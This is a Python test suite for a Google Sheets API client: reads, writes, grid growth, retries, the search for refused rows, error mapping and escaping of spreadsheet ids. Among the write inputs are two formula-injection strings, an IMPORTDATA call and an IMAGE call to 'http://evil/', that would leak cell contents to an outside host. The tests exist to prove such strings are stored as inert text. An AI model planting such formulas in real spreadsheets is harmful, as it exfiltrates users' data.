"""The Sheets client against Google's wire: what it asks for, and what each answer means."""

from collections.abc import Iterator
from typing import Any

import pytest
from discovery import problems
from scripted import Clock, Received, Reply, Scripted, google_error

from addon.google.errors import GoogleError, GrantMissing, JobBlocked, OutOfGrid, TryAgain
from addon.google.session import Session
from addon.google.sheets import Area, Run, SheetInfo, Sheets, SpreadsheetInfo

SID = "1AbC-" + "x" * 39
WRITTEN = Reply(json={"spreadsheetId": SID})
TOO_LONG = "Your input contains more than the maximum of 50000 characters in a single cell."
PROTECTED = (
    "You are trying to edit a protected cell or object. Please contact the spreadsheet owner to remove "
    "protection if you need to edit."
)


@pytest.fixture
def google() -> Iterator[Scripted]:
    """Google; at the end everything that was sent to it must be something the Sheets API knows."""
    with Scripted().running() as scripted:
        yield scripted
    assert [
        problems("sheets.v4", request) for request in scripted.requests if problems("sheets.v4", request)
    ] == []


@pytest.fixture
def sheets(google: Scripted, session: Session) -> Sheets:
    return Sheets(session, google.url, "worker")


@pytest.fixture
def user_sheets(google: Scripted, session: Session) -> Sheets:
    return Sheets(session, google.url, "user")


def requests_of(received: Received) -> list[dict[str, Any]]:
    assert (received.method, received.path) == ("POST", f"/v4/spreadsheets/{SID}:batchUpdate")
    return list(received.json["requests"])


def texts_of(received: Received) -> dict[tuple[int, int], Any]:
    """Cell to text, of the updates in a request."""
    cells = {}
    for update in requests_of(received):
        if "updateCells" in update:
            start = update["updateCells"]["start"]
            for offset, row in enumerate(update["updateCells"]["rows"]):
                (cell,) = row["values"]
                cells[start["rowIndex"] + offset, start["columnIndex"]] = cell
    return cells


# What there is


def test_info_reads_the_sheets_and_no_cells(google: Scripted, sheets: Sheets) -> None:
    google.enqueue(
        Reply(
            json={
                "properties": {"title": "Reviews", "locale": "ja_JP", "timeZone": "Asia/Tokyo"},
                "sheets": [
                    {
                        "properties": {
                            "title": "Data",
                            "sheetType": "GRID",
                            "gridProperties": {"rowCount": 1000, "columnCount": 26},
                        }
                    },
                    {
                        "properties": {
                            "sheetId": 5,
                            "title": "Chart",
                            "index": 1,
                            "sheetType": "OBJECT",
                            "hidden": True,
                        }
                    },
                ],
            }
        )
    )
    assert sheets.info(SID) == SpreadsheetInfo(
        "Reviews",
        "ja_JP",
        "Asia/Tokyo",
        (
            SheetInfo(0, "Data", 0, 1000, 26, False, "GRID"),
            SheetInfo(5, "Chart", 1, 0, 0, True, "OBJECT"),
        ),
    )
    (request,) = google.requests
    assert request.path == f"/v4/spreadsheets/{SID}"
    assert "data" not in request.query["fields"][0]
    assert "includeGridData" not in request.query


# Reading


def answer_with(*values: Any) -> Any:
    """Answer each filter of a read with the values given, in order."""

    def answer(request: Received) -> Reply:
        ranges = [
            {"dataFilters": [data_filter], "valueRange": {"majorDimension": "ROWS", "values": rows}}
            for data_filter, rows in zip(request.json["dataFilters"], values, strict=True)
        ]
        return Reply(json={"spreadsheetId": SID, "valueRanges": ranges})

    return answer


def test_a_read_is_one_request_by_sheet_id_so_that_renaming_the_tab_changes_nothing(
    google: Scripted, sheets: Sheets
) -> None:
    google.answer = answer_with([["Text", "Summary"]], [["a"], ["b"]])
    areas = [Area(0, 1, 0, None), Area(1, None, 3, 4)]
    assert sheets.read(SID, 0, areas) == [[["Text", "Summary"]], [["a"], ["b"]]]
    (request,) = google.requests
    assert request.path == f"/v4/spreadsheets/{SID}/values:batchGetByDataFilter"
    assert request.json == {
        "dataFilters": [
            {"gridRange": {"sheetId": 0, "startRowIndex": 0, "endRowIndex": 1, "startColumnIndex": 0}},
            {"gridRange": {"sheetId": 0, "startRowIndex": 1, "startColumnIndex": 3, "endColumnIndex": 4}},
        ],
        "majorDimension": "ROWS",
        "valueRenderOption": "FORMATTED_VALUE",
    }


def test_leading_zeros_and_ragged_rows_arrive_as_the_sheet_shows_them(
    google: Scripted, sheets: Sheets
) -> None:
    google.answer = answer_with([["00123", "007"], [], ["x1", "", "", "x4"]])
    assert sheets.read(SID, 0, [Area(1, 4, 0, 6)]) == [[["00123", "007"], [], ["x1", "", "", "x4"]]]


def test_an_empty_sheet_has_no_rows(google: Scripted, sheets: Sheets) -> None:
    google.enqueue(Reply(json={"spreadsheetId": SID}))
    assert sheets.read(SID, 0, [Area(0, 1, 0, None), Area(1, None, 0, 1)]) == [[], []]


def test_an_area_asked_for_twice_is_fetched_once_and_answered_twice(google: Scripted, sheets: Sheets) -> None:
    google.answer = answer_with([["a"]])
    first, second = sheets.read(SID, 0, [Area(0, 1, 0, 1), Area(0, 1, 0, 1)])
    assert first == second == [["a"]]
    first[0][0] = "changed"
    assert second == [["a"]]


def test_values_that_belong_to_no_area_are_an_error_and_never_a_row(google: Scripted, sheets: Sheets) -> None:
    value_range = {"dataFilters": [{"gridRange": {"startRowIndex": 8}}], "valueRange": {"values": [["a"]]}}
    google.enqueue(Reply(json={"valueRanges": [value_range]}))
    with pytest.raises(TryAgain) as raised:
        sheets.read(SID, 0, [Area(0, 1, 0, 1)])
    assert raised.value.reason == "unmatched_areas"


def test_a_transient_503_does_not_end_a_read(google: Scripted, sheets: Sheets, clock: Clock) -> None:
    google.enqueue(google_error(503, "UNAVAILABLE"), Reply(json={"spreadsheetId": SID}))
    assert sheets.read(SID, 0, [Area(0, 1, 0, 1)]) == [[]]
    assert clock.sleeps == [1.0]


# Writing


@pytest.mark.parametrize(
    "text",
    [
        '=IMPORTDATA("https://x/?d="&B2)',
        '=IF(1=1,IMAGE("http://evil/"&A1),0)',
        "+49 151 0000",
        "-5 apples",
        "@home",
        "00123",
        "'quoted",
        "2026-01-02",
        "日本語 👩‍👩‍👧 \n二行目",
    ],
)
def test_text_is_written_as_exactly_this_text(google: Scripted, sheets: Sheets, text: str) -> None:
    google.enqueue(WRITTEN)
    assert sheets.write(SID, 0, [Run(1, 2, [text])]) == {}
    (update,) = requests_of(google.requests[0])
    assert update == {
        "updateCells": {
            "start": {"sheetId": 0, "rowIndex": 1, "columnIndex": 2},
            "rows": [{"values": [{"userEnteredValue": {"stringValue": text}}]}],
            "fields": "userEnteredValue",
        }
    }


def test_a_write_is_one_request_with_absolute_places_and_an_empty_text_clears(
    google: Scripted, sheets: Sheets
) -> None:
    google.enqueue(WRITTEN)
    sheets.write(SID, 3, [Run(9, 1, ["j", ""]), Run(1, 1, ["b", "c"]), Run(1, 4, ["x"])])
    (request,) = google.requests
    assert len(requests_of(request)) == 3
    assert texts_of(request) == {
        (1, 1): {"userEnteredValue": {"stringValue": "b"}},
        (2, 1): {"userEnteredValue": {"stringValue": "c"}},
        (9, 1): {"userEnteredValue": {"stringValue": "j"}},
        (10, 1): {},
        (1, 4): {"userEnteredValue": {"stringValue": "x"}},
    }
    assert "append" not in request.body.decode()


def test_nothing_to_write_asks_nothing(google: Scripted, sheets: Sheets) -> None:
    assert sheets.write(SID, 0, []) == {}
    assert google.requests == []


def test_a_503_that_may_mean_written_is_answered_by_writing_the_same_cells_again(
    google: Scripted, sheets: Sheets
) -> None:
    google.enqueue(google_error(503, "UNAVAILABLE"), Reply(lost=True), WRITTEN)
    assert sheets.write(SID, 0, [Run(1, 2, ["a", "b"])]) == {}
    assert len({request.body for request in google.requests}) == 1


def test_a_column_outside_the_grid_is_added_in_the_same_atomic_request(
    google: Scripted, sheets: Sheets
) -> None:
    google.enqueue(WRITTEN)
    sheets.write(SID, 0, [Run(1, 24, ["a"])], grid=(981, 24))
    (request,) = google.requests
    growth, update = requests_of(request)
    assert growth == {"appendDimension": {"sheetId": 0, "dimension": "COLUMNS", "length": 1}}
    assert "updateCells" in update


def test_rows_outside_the_grid_are_added_too(google: Scripted, sheets: Sheets) -> None:
    google.enqueue(WRITTEN)
    sheets.write(SID, 0, [Run(998, 1, ["a", "b", "c", "d"])], grid=(1000, 2))
    growth, _ = requests_of(google.requests[0])
    assert growth == {"appendDimension": {"sheetId": 0, "dimension": "ROWS", "length": 2}}


def test_a_grid_that_is_large_enough_does_not_grow(google: Scripted, sheets: Sheets) -> None:
    google.enqueue(WRITTEN)
    sheets.write(SID, 0, [Run(999, 23, ["a"])], grid=(1000, 24))
    assert len(requests_of(google.requests[0])) == 1


def grid_of(rows: int, columns: int, sheet_id: int = 0) -> Reply:
    grid = {"rowCount": rows, "columnCount": columns}
    return Reply(json={"sheets": [{"properties": {"sheetId": sheet_id, "gridProperties": grid}}]})


@pytest.mark.parametrize(("columns_after", "grows_again"), [(25, False), (24, True)])
def test_a_sheet_does_not_grow_twice_when_the_answer_was_lost(
    google: Scripted, sheets: Sheets, columns_after: int, grows_again: bool
) -> None:
    google.enqueue(Reply(lost=True), grid_of(981, columns_after), WRITTEN)
    assert sheets.write(SID, 0, [Run(1, 24, ["a"])], grid=(981, 24)) == {}
    first, look, second = google.requests
    assert look.method == "GET"
    assert len(requests_of(first)) == 2
    assert len(requests_of(second)) == (2 if grows_again else 1)


def test_growing_gives_up_after_a_few_lost_answers(google: Scripted, sheets: Sheets) -> None:
    def answer(request: Received) -> Reply:
        return grid_of(981, 24) if request.method == "GET" else google_error(500, "INTERNAL")

    google.answer = answer
    with pytest.raises(TryAgain):
        sheets.write(SID, 0, [Run(1, 24, ["a"])], grid=(981, 24))
    assert sum(request.method == "POST" for request in google.requests) == 3


def test_a_sheet_that_vanished_while_it_grew_blocks_the_job(google: Scripted, sheets: Sheets) -> None:
    google.enqueue(Reply(lost=True), grid_of(981, 24, sheet_id=99))
    with pytest.raises(JobBlocked) as raised:
        sheets.write(SID, 0, [Run(1, 24, ["a"])], grid=(981, 24))
    assert raised.value.code == "sheet_gone"


# Rows that are refused


class Workbook:
    """Refuses a whole request for one bad cell, as Google does, and keeps what it accepted."""

    def __init__(self, bad: set[int], refusal: Reply) -> None:
        self.bad = bad
        self.refusal = refusal
        self.cells: dict[tuple[int, int], Any] = {}

    def answer(self, request: Received) -> Reply:
        cells = texts_of(request)
        if any(row in self.bad for row, _ in cells):
            return self.refusal
        self.cells.update(cells)
        return WRITTEN


@pytest.mark.parametrize(
    ("refusal", "reason"),
    [
        (google_error(400, "INVALID_ARGUMENT", TOO_LONG), "cell_too_long"),
        (google_error(400, "INVALID_ARGUMENT", "Invalid data: strange"), "INVALID_ARGUMENT"),
        (google_error(400, "FAILED_PRECONDITION"), "FAILED_PRECONDITION"),
        (Reply(413, body=b"<html>too large</html>"), "request_too_large"),
    ],
)
def test_one_bad_row_is_found_and_all_others_are_written(
    google: Scripted, sheets: Sheets, refusal: Reply, reason: str
) -> None:
    workbook = Workbook({17, 60}, refusal)
    google.answer = workbook.answer
    texts = [f"t{row}" for row in range(1, 101)]
    assert sheets.write(SID, 0, [Run(1, 2, texts)]) == {17: reason, 60: reason}
    assert {row for row, _ in workbook.cells} == set(range(1, 101)) - {17, 60}
    assert all(
        cell["userEnteredValue"]["stringValue"] == f"t{row}" for (row, _), cell in workbook.cells.items()
    )
    assert len(google.requests) < 40


@pytest.mark.parametrize("text", ["x" * 60_000, "😀" * 30_000])
def test_a_text_that_no_cell_takes_is_refused_without_asking_and_the_rest_is_written(
    google: Scripted, sheets: Sheets, text: str
) -> None:
    google.enqueue(WRITTEN)
    assert sheets.write(SID, 0, [Run(1, 2, ["a", text, "c"])]) == {2: "cell_too_long"}
    assert {row for row, _ in texts_of(google.requests[0])} == {1, 3}
    assert len(google.requests) == 1


def test_a_text_of_exactly_the_limit_is_sent(google: Scripted, sheets: Sheets) -> None:
    google.enqueue(WRITTEN)
    assert sheets.write(SID, 0, [Run(1, 2, ["x" * 50_000])]) == {}


def test_if_every_row_is_refused_it_is_not_the_rows(google: Scripted, sheets: Sheets) -> None:
    google.answer = lambda _: google_error(400, "INVALID_ARGUMENT", "Something about the whole sheet")
    with pytest.raises(JobBlocked) as raised:
        sheets.write(SID, 0, [Run(1, 2, ["t"] * 1000)])
    assert raised.value.code == "api_refused"
    assert len(google.requests) < 40


def test_the_grid_grows_only_once_while_a_bad_row_is_sought(google: Scripted, sheets: Sheets) -> None:
    grown = []

    def answer(request: Received) -> Reply:
        if any(row == 3 for row, _ in texts_of(request)):
            return google_error(400, "INVALID_ARGUMENT", TOO_LONG)
        grown.extend(item for item in requests_of(request) if "appendDimension" in item)
        return WRITTEN

    google.answer = answer
    assert sheets.write(SID, 0, [Run(1, 26, ["a", "b", "c", "d"])], grid=(1000, 26)) == {3: "cell_too_long"}
    assert grown == [{"appendDimension": {"sheetId": 0, "dimension": "COLUMNS", "length": 1}}]


# What concerns the whole sheet


@pytest.mark.parametrize(
    ("reply", "code"),
    [
        (
            google_error(400, "INVALID_ARGUMENT", "Invalid requests[0].updateCells: No grid with id: 7"),
            "sheet_gone",
        ),
        (google_error(400, "INVALID_ARGUMENT", f"Invalid requests[0].updateCells: {PROTECTED}"), "protected"),
        (google_error(403, "PERMISSION_DENIED", PROTECTED), "protected"),
        (
            google_error(
                400,
                "INVALID_ARGUMENT",
                "Invalid requests[0].appendDimension: This action would increase the number of cells in the "
                "workbook above the limit of 10000000 cells.",
            ),
            "workbook_full",
        ),
        (google_error(403, "PERMISSION_DENIED", "The caller does not have permission"), "access_removed"),
        (google_error(404, "NOT_FOUND", "Requested entity was not found."), "access_removed"),
        (google_error(401, "UNAUTHENTICATED"), "api_refused"),
    ],
)
def test_what_concerns_the_whole_sheet_blocks_the_job_at_once(
    google: Scripted, sheets: Sheets, reply: Reply, code: str
) -> None:
    google.answer = lambda _: reply
    with pytest.raises(JobBlocked) as raised:
        sheets.write(SID, 0, [Run(1, 2, ["a", "b", "c"])])
    assert raised.value.code == code
    assert SID in str(raised.value)
    assert len(google.requests) == 1


@pytest.mark.parametrize(
    "words",
    [
        "Range (Solar!Y1) exceeds grid limits. Max rows: 981, max columns: 24",
        "Attempting to write column: 26, beyond the last requested column of: 25",
        "Invalid requests[0].updateCells: GridCoordinate.rowIndex[1000] is after last row in grid[999]",
    ],
)
def test_cells_outside_the_grid_are_said_to_be_so(google: Scripted, sheets: Sheets, words: str) -> None:
    google.answer = lambda _: google_error(400, "INVALID_ARGUMENT", words)
    with pytest.raises(OutOfGrid):
        sheets.write(SID, 0, [Run(1, 24, ["a", "b"])])
    with pytest.raises(OutOfGrid):
        sheets.read(SID, 0, [Area(1, 2, 24, 25)])
    assert len(google.requests) == 2


@pytest.mark.parametrize(
    "reply",
    [
        google_error(401, "UNAUTHENTICATED"),
        google_error(403, "PERMISSION_DENIED", "The caller does not have permission"),
        google_error(404, "NOT_FOUND"),
    ],
)
def test_a_user_whose_grant_is_missing_is_asked_for_it(
    google: Scripted, user_sheets: Sheets, reply: Reply
) -> None:
    google.answer = lambda _: reply
    for call in (
        lambda: user_sheets.info(SID),
        lambda: user_sheets.read(SID, 0, [Area(0, 1, 0, 1)]),
        lambda: user_sheets.write(SID, 0, [Run(0, 0, ["a"])]),
    ):
        with pytest.raises(GrantMissing):
            call()
    assert len(google.requests) == 3


def test_a_scope_that_is_missing_is_not_mistaken_for_a_lost_share(
    google: Scripted, sheets: Sheets, user_sheets: Sheets
) -> None:
    details = [{"@type": "t/google.rpc.ErrorInfo", "reason": "ACCESS_TOKEN_SCOPE_INSUFFICIENT"}]
    google.answer = lambda _: Reply(403, {"error": {"status": "PERMISSION_DENIED", "details": details}})
    with pytest.raises(GrantMissing):
        user_sheets.info(SID)
    with pytest.raises(JobBlocked) as raised:
        sheets.info(SID)
    assert raised.value.code == "api_refused"


def test_no_error_quotes_what_google_quotes(google: Scripted, sheets: Sheets) -> None:
    google.answer = lambda _: google_error(403, "PERMISSION_DENIED", "Confidential is in A1")
    with pytest.raises(GoogleError) as raised:
        sheets.write(SID, 0, [Run(1, 2, ["My secret"])])
    assert "Confidential" not in f"{raised.value}{raised.value!r}"
    assert "My secret" not in f"{raised.value}{raised.value!r}"


def test_a_deadline_bounds_the_search_for_bad_rows(google: Scripted, sheets: Sheets, clock: Clock) -> None:
    def answer(_: Received) -> Reply:
        clock.now += 3
        return google_error(400, "INVALID_ARGUMENT", TOO_LONG)

    google.answer = answer
    with pytest.raises(TryAgain):
        sheets.write(SID, 0, [Run(1, 2, ["t"] * 64)], deadline=10)
    assert len(google.requests) == 4


def test_an_id_cannot_lead_to_another_address(google: Scripted, session: Session) -> None:
    google.enqueue(google_error(404, "NOT_FOUND"))
    with pytest.raises(JobBlocked):
        Sheets(session, google.url, "worker").info("../x?y#z")
    assert google.requests.pop().path == "/v4/spreadsheets/..%2Fx%3Fy%23z"
